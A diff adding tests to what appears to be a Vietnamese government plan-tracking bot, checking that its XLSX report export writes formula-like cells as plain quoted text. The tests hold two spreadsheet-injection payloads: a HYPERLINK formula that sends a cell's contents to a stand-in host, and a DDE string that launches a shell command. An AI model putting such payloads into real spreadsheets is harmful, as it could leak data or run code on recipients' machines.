@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 from sqlalchemy import select
 
 from i18n import gettext, use_language
-from models import Evidence, Milestone, ProgressReport, Task
+from models import Evidence, Milestone, MilestoneStatus, ProgressReport, Task
 from services import reports, xlsx_report
 from services.xlsx_report import AGENCY_COLUMNS, AGENCY_SHEET, TASK_COLUMNS, sheet_name
 from tests.world import VN, World
@@ -176,3 +176,76 @@ def test_the_report_as_of_a_later_day_moves_on(world):
     assert iii_1[10] == (date(2026, 7, 23) - date(2026, 6, 30)).days
     with use_language("vi"):
         assert iii_1[6].lower() == gettext("overdue").lower()
+
+
+# A plan whose cells start as a spreadsheet formula would: what the plan says is what the
+# coordinator's workbook shows, and nothing in it runs when the file is opened.
+HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"Xem chi tiết")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _formulas(content: bytes) -> list[str]:
+    import zipfile
+
+    with zipfile.ZipFile(BytesIO(content)) as package:
+        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets
+        return [n for n in sheets if b"<f>" in package.read(n) or b"<f " in package.read(n)]
+
+
+def test_cells_of_an_imported_plan_that_look_like_formulas_stay_text(sessions, tmp_path):
+
+    from bot.demo import SAMPLE_PLAN
+    from models import OfficialRole
+
+    world = World.build(sessions, tmp_path, now=APRIL_14)
+    text = SAMPLE_PLAN.read_text(encoding="utf-8")
+    for old, new in (
+        ("Xây dựng Kế hoạch kiểm tra công tác cải cách hành chính năm 2026", HYPERLINK),
+        ("Kết luận kiểm tra", DDE),  # a deliverable
+        ("Số: 15/KH-UBND", "Số: 16/KH-UBND"),
+    ):
+        assert old in text
+        text = text.replace(old, new, 1)
+    world.import_text(text, "ke-hoach-16.txt")
+    world.register("c1", "Sở Nội vụ", OfficialRole.COORDINATOR)
+
+    [reply] = world.send("c1", command="xuatbaocao")
+    assert reply.document is not None
+    content = reply.document.content
+    assert _formulas(content) == []
+    sheet = load_workbook(BytesIO(content))["16-KH-UBND"]
+    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
+    for written in (HYPERLINK, DDE):
+        assert cells[written].data_type == "s" and cells[written].quotePrefix
+    assert not cells["Sở Nội vụ"].quotePrefix  # ordinary text stays as it was
+
+
+@pytest.mark.parametrize(
+    "written",
+    [HYPERLINK, "+84 912 345 678", "-2+3", DDE, "\t=1+1", "\r=1+1", "=1+1"],
+)
+def test_every_cell_that_starts_like_a_formula_is_written_as_text(written):
+    line = xlsx_report.TaskLine(
+        task_id=1,
+        number=written,
+        title=written,
+        product=written,
+        leads=written,
+        supports=written,
+        deadline=written,
+        status=MilestoneStatus.IN_PROGRESS,
+        progress=0,
+        last_update=None,
+        evidence=0,
+        days_overdue=None,
+    )
+    section = xlsx_report.SectionLine(written, written)
+    agencies = [xlsx_report.AgencyLine(written, reports.StatusCounts())]
+    with use_language("vi"):
+        content = xlsx_report.render([xlsx_report.PlanSheet("15/KH", [section, line])], agencies)
+    assert _formulas(content) == []
+    book = load_workbook(BytesIO(content))
+    texts = [c for sheet in book for row in sheet.iter_rows(min_row=2) for c in row]
+    assert sum(c.value == written for c in texts) == 2 + 6 + 1
+    assert all(c.data_type == "s" and c.quotePrefix for c in texts if c.value == written)
